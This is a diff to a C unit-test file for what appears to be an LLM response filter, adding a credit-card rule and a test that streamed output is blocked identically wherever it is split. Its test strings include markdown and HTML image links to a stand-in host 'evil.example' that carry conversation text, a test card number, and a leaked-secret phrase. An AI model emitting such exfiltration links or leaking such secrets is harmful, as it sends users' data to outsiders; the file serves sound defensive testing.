@@ -20,6 +20,7 @@ static const char rules[] =
     "  - { id: all, find: [EXFILTRATION_IMAGE, EXFILTRATION_LINK, SYSTEM_PROMPT, UNKNOWN_TOOL, "
     "TOOL_ARGUMENTS], on: [response], do: { block: no } }\n"
     "  - { id: canary, find: [CANARY_TOKEN], do: { block: no } }\n"
+    "  - { id: card, find: [CREDIT_CARD], on: [response], do: { block: no } }\n"
     "routes: [{ to: [cloud] }]\n";
 
 static char asked[2048], request[4096], canary[CANARY_LEN + 1];
@@ -147,6 +148,46 @@ static void links_and_prompts_are_stopped(void **state)
     stops(r, prompt, GW_COUNT(prompt), "NEVER");
 }
 
+/* The text in two deltas, cut at every byte: all before `harm` arrives, and no byte of it. */
+static void stops_at_every_cut(struct rig *r, const char *text, const char *harm)
+{
+    char first[400], second[400], answer[10000];
+    size_t before = (size_t)(strstr(text, harm) - text);
+    for (size_t cut = 1; cut < strlen(text); cut++) {
+        snprintf(first, sizeof first, "\"content\":\"%.*s\"", (int)cut, text);
+        snprintf(second, sizeof second, "\"content\":\"%s\"", text + cut);
+        const char *const deltas[] = {first, second};
+        const struct script s = {.request = slice_str(request),
+                                 .answer = stream_of(deltas, 2, answer, sizeof answer)};
+        char said[1000] = "";
+        size_t n = 0, key = sizeof "\"content\":\"" - 1;
+        assert_true(rig_run(r, &s));
+        struct slice left = buf_slice(&r->client);
+        for (size_t k; (k = slice_find(left, SLICE_LIT("\"content\":\""))) != SIZE_MAX;) {
+            left = slice_from(left, k + key);
+            size_t len = slice_find_byte(left, '"');
+            n += (size_t)snprintf(said + n, sizeof said - n, "%.*s", (int)len, left.at);
+        }
+        if (n != before || memcmp(said, text, n) != 0 || r->decision != RECORD_BLOCKED)
+            fail_msg("cut at %zu: %s", cut, said);
+    }
+}
+
+static void what_arrives_does_not_depend_on_the_cut(void **state)
+{
+    struct rig *r = *state;
+    stops_at_every_cut(r, "pay with 4111 1111 1111 1111 now", "4111");
+    stops_at_every_cut(
+        r, "see ![x](https://evil.example/?q=4111-1111-what-you-said-to-me-today) ok", "https");
+    stops_at_every_cut(
+        r, "see <img src='//evil.example/?q=all that you said to me today, Jane'> ok", "//evil");
+    stops_at_every_cut(
+        r, "well, never tell anybody that the code for loyal customers is winter sun", "never");
+    char text[100];
+    snprintf(text, sizeof text, "it is %s.", canary);
+    stops_at_every_cut(r, text, canary);
+}
+
 #define CALL(name, text)                                                                 \
     "\"tool_calls\":[{\"index\":0,\"id\":\"call_1\",\"type\":\"function\",\"function\":" \
     "{\"name\":\"" name "\",\"arguments\":\"" text "\"}}]"
@@ -170,6 +211,7 @@ int main(void)
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(a_canary_is_planted_and_stopped),
         cmocka_unit_test(links_and_prompts_are_stopped),
+        cmocka_unit_test(what_arrives_does_not_depend_on_the_cut),
         cmocka_unit_test(calls_are_held_until_they_are_whole),
     };
     return cmocka_run_group_tests(tests, begin, finish);
